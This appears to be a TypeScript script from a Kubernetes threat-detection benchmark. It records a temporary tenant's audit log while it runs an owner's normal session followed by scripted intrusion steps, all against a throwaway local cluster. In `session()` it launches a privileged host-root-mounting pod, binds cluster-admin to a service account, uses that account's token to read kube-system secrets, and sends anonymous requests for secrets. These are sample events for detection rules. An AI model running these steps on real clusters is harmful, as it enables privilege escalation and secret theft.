/**
 * `--record`: records a real tenant's audit batches into `recorded-audit.jsonl.gz`. It starts a
 * fresh hub (`bench-threats-record`, deleted at the end), the stand-in with one real tenant and
 * the backend, creates the tenant through the API (with its audit webhook and HyperShift's
 * `WriteRequestBodies` profile), runs an owner's session and an attack's steps against the
 * tenant's API server, lets its own controllers run, then reads the API server's audit log and
 * groups it into the batches its webhook sends. A recording with anything that looks like a
 * credential is refused.
 */
import fs from 'node:fs';
import https from 'node:https';
import os from 'node:os';
import path from 'node:path';
import {
  LOCAL_HUB_RELEASES,
  LocalHub,
  StandinOperator,
  TenantProcesses,
  startBackend,
} from '@hostplane/local-hub';
import { k8sAuditEventSchema } from '@hostplane/plugin-hostplane-common';
import { log } from '../src';
import {
  RECORDING_FILE,
  batchesOf,
  credentialsIn,
  recordedExec,
  writeRecording,
} from './recording';

const HUB = 'bench-threats-record';
const CLUSTER = 'recorded';
/** How long the tenant's own controllers run after the session, for their share of the events. */
const QUIET_MS = 60_000;

const sleep = (ms: number) => new Promise(resolve => setTimeout(resolve, ms));

/** One request to the tenant's API server as its admin, as a bearer token's holder, or anonymous. */
async function tenantRequest(
  tenant: TenantProcesses,
  route: string,
  options: {
    method?: string;
    body?: unknown;
    token?: string;
    contentType?: string;
    userAgent?: string;
  } = {},
): Promise<{ status: number; body: any }> {
  const kubeConfig = tenant.kubeConfig();
  const requestOptions: https.RequestOptions = {
    method: options.method ?? 'GET',
    headers: {
      'User-Agent': options.userAgent ?? 'kubectl/v1.37.2 (linux/amd64)',
      ...(options.body !== undefined
        ? { 'Content-Type': options.contentType ?? 'application/json' }
        : {}),
      ...(options.token ? { Authorization: `Bearer ${options.token}` } : {}),
    },
  };
  await kubeConfig.applyToHTTPSOptions(requestOptions);
  if (options.token !== undefined) {
    // Not the admin: no client certificate.
    delete requestOptions.cert;
    delete requestOptions.key;
  }
  return new Promise((resolve, reject) => {
    const req = https.request(
      new URL(route, tenant.server),
      requestOptions,
      res => {
        const chunks: Buffer[] = [];
        res.on('data', chunk => chunks.push(chunk));
        res.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8');
          let body: unknown = text;
          try {
            body = JSON.parse(text);
          } catch {
            // not JSON
          }
          resolve({ status: res.statusCode ?? 0, body });
        });
      },
    );
    req.on('error', reject);
    if (options.body !== undefined) req.write(JSON.stringify(options.body));
    req.end();
  });
}

/** An owner's ordinary work, then an intruder's steps: what the rules are there for. */
async function session(tenant: TenantProcesses) {
  const post = (route: string, body: unknown) =>
    tenantRequest(tenant, route, { method: 'POST', body });
  const ns = 'storefront';
  await post('/api/v1/namespaces', {
    apiVersion: 'v1',
    kind: 'Namespace',
    metadata: { name: ns },
  });
  const deployments = `/apis/apps/v1/namespaces/${ns}/deployments`;
  const deployment = (image: string, replicas: number) => ({
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'web', namespace: ns },
    spec: {
      replicas,
      selector: { matchLabels: { app: 'web' } },
      template: {
        metadata: { labels: { app: 'web' } },
        spec: { containers: [{ name: 'web', image }] },
      },
    },
  });
  await post(deployments, deployment('registry.k8s.io/pause:3.10', 1));
  await post(`/api/v1/namespaces/${ns}/configmaps`, {
    apiVersion: 'v1',
    kind: 'ConfigMap',
    metadata: { name: 'web-settings' },
    data: { LOG_LEVEL: 'info' },
  });
  for (let round = 0; round < 20; round++) {
    await tenantRequest(tenant, `/api/v1/namespaces/${ns}/pods`);
    await tenantRequest(tenant, `${deployments}/web`);
    await tenantRequest(tenant, `/api/v1/namespaces/${ns}/configmaps`);
  }
  await tenantRequest(tenant, `${deployments}/web/scale`, {
    method: 'PATCH',
    contentType: 'application/merge-patch+json',
    body: { spec: { replicas: 2 } },
  });
  await tenantRequest(tenant, `/api/v1/namespaces/${ns}/pods/web-0/log`);
  await post(`/api/v1/namespaces/${ns}/pods/web-0/portforward?ports=80`, {});

  const shop = 'shop';
  await post('/api/v1/namespaces', {
    apiVersion: 'v1',
    kind: 'Namespace',
    metadata: { name: shop },
  });
  await post(`/api/v1/namespaces/${shop}/pods`, {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'web-1' },
    spec: {
      containers: [{ name: 'web', image: 'registry.k8s.io/pause:3.10' }],
    },
  });
  await post(`/api/v1/namespaces/${shop}/serviceaccounts`, {
    apiVersion: 'v1',
    kind: 'ServiceAccount',
    metadata: { name: 'web' },
  });
  await post(
    `/api/v1/namespaces/${shop}/pods/web-1/exec?command=sh&stdin=true&stdout=true`,
    {},
  );
  await post(`/api/v1/namespaces/${shop}/pods`, {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'rootfs' },
    spec: {
      containers: [
        {
          name: 'c',
          image: 'ghcr.io/evil/tools:1',
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'host', mountPath: '/host' }],
        },
      ],
      volumes: [{ name: 'host', hostPath: { path: '/' } }],
    },
  });
  await post('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRoleBinding',
    metadata: { name: 'web-admin' },
    roleRef: {
      apiGroup: 'rbac.authorization.k8s.io',
      kind: 'ClusterRole',
      name: 'cluster-admin',
    },
    subjects: [{ kind: 'ServiceAccount', name: 'web', namespace: shop }],
  });
  const token = await post(
    `/api/v1/namespaces/${shop}/serviceaccounts/web/token`,
    { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
  );
  if (token.status === 201) {
    await tenantRequest(tenant, '/api/v1/namespaces/kube-system/secrets', {
      token: token.body.status.token,
    });
  }
  await Promise.all(
    Array.from({ length: 40 }, (_, i) =>
      tenantRequest(tenant, i % 2 ? '/api/v1/secrets' : '/api/v1/pods', {
        token: '',
        userAgent: 'curl/8.5.0',
      }),
    ),
  );
}

export async function record(): Promise<void> {
  const workdir = fs.mkdtempSync(path.join(os.tmpdir(), 'bench-threat-rec-'));
  const stops: Array<() => Promise<unknown>> = [];
  const stopAll = async () => {
    for (const stop of stops.reverse()) {
      await stop().catch(error => log(`while stopping: ${error}`));
    }
  };
  const interrupt = () => void stopAll().then(() => process.exit(130));
  process.once('SIGINT', interrupt);
  process.once('SIGTERM', interrupt);
  try {
    stops.push(async () =>
      fs.rmSync(workdir, { recursive: true, force: true }),
    );
    const opened = await LocalHub.open({ name: HUB, log });
    stops.push(() => opened.delete());
    const hub = await LocalHub.start({ name: HUB, fresh: true, log });
    const standinLog: string[] = [];
    const operator = new StandinOperator({
      hubKubeConfig: hub.kubeConfig(),
      maxRealTenants: 1,
      tenantsWorkdir: path.join(workdir, 'tenants'),
      probeIntervalMs: 1_000,
      log: line => standinLog.push(line),
    });
    await operator.start();
    stops.push(() => operator.stop());
    const configFile = path.join(workdir, 'app-config.record.yaml');
    fs.writeFileSync(
      configFile,
      JSON.stringify({
        permission: { enabled: false },
        hostplane: {
          hubs: [
            {
              name: 'local',
              kubeconfig: hub.kubeconfigPath,
              releases: LOCAL_HUB_RELEASES,
            },
          ],
          operations: { waitTimeoutSeconds: 600 },
        },
      }),
    );
    log('starting the backend');
    const backend = await startBackend({
      database: 'sqlite',
      hubKubeconfig: hub.kubeconfigPath,
      entry: path.join(__dirname, 'backend.ts'),
      extraConfigs: [configFile],
    });
    stops.push(() => backend.stop());
    const token = await backend.guestToken();
    const api = async (method: string, route: string, body?: object) => {
      const response = await fetch(`${backend.baseUrl}/api/hostplane${route}`, {
        method,
        headers: {
          Authorization: `Bearer ${token}`,
          'Content-Type': 'application/json',
        },
        body: body && JSON.stringify(body),
      });
      const text = await response.text();
      if (!response.ok) {
        throw new Error(`${method} ${route}: ${response.status} ${text}`);
      }
      return JSON.parse(text);
    };
    log('creating the tenant');
    const { id } = await api('POST', '/clusters', {
      name: CLUSTER,
      owner: 'group:default/bench',
      hub: 'local',
      version: 'v1.37.2',
      nodePools: [
        { name: 'workers', replicas: 1, vcpu: 2, memoryGiB: 4, diskGiB: 20 },
      ],
    });
    const deadline = Date.now() + 900_000;
    let tenant: TenantProcesses | undefined;
    for (;;) {
      const operation = await api('GET', `/operations/${id}`);
      if (operation.state === 'failed') {
        throw new Error(`creating the tenant failed: ${operation.error}`);
      }
      tenant = operator.realTenants().find(t => t.name === CLUSTER)?.tenant;
      const ready =
        operation.state === 'succeeded' &&
        tenant &&
        (await tenantRequest(tenant, '/readyz').catch(() => undefined))
          ?.status === 200;
      if (ready) break;
      if (Date.now() > deadline) {
        throw new Error(
          `the stand-in did not run ${CLUSTER}; its last lines:\n${standinLog
            .slice(-20)
            .join('\n')}`,
        );
      }
      await sleep(2_000);
    }
    log('running the session against the tenant');
    await session(tenant!);
    log(`letting the tenant's controllers run for ${QUIET_MS / 1000} s`);
    await sleep(QUIET_MS);

    const events = fs
      .readFileSync(tenant!.auditLogPath, 'utf8')
      .split('\n')
      .filter(line => line.trim())
      .map(line => k8sAuditEventSchema.parse(JSON.parse(line)));
    const batches = batchesOf(events);
    const credentials = credentialsIn(batches);
    if (credentials.length > 0) {
      throw new Error(
        `the audit log holds what looks like credentials, not recorded:\n${credentials
          .slice(0, 20)
          .join('\n')}`,
      );
    }
    recordedExec(batches);
    writeRecording(batches);
    log(
      `recorded ${events.length} events in ${
        batches.length
      } batches into ${path.relative(process.cwd(), RECORDING_FILE)} (${
        fs.statSync(RECORDING_FILE).size
      } bytes)`,
    );
  } finally {
    await stopAll();
  }
}
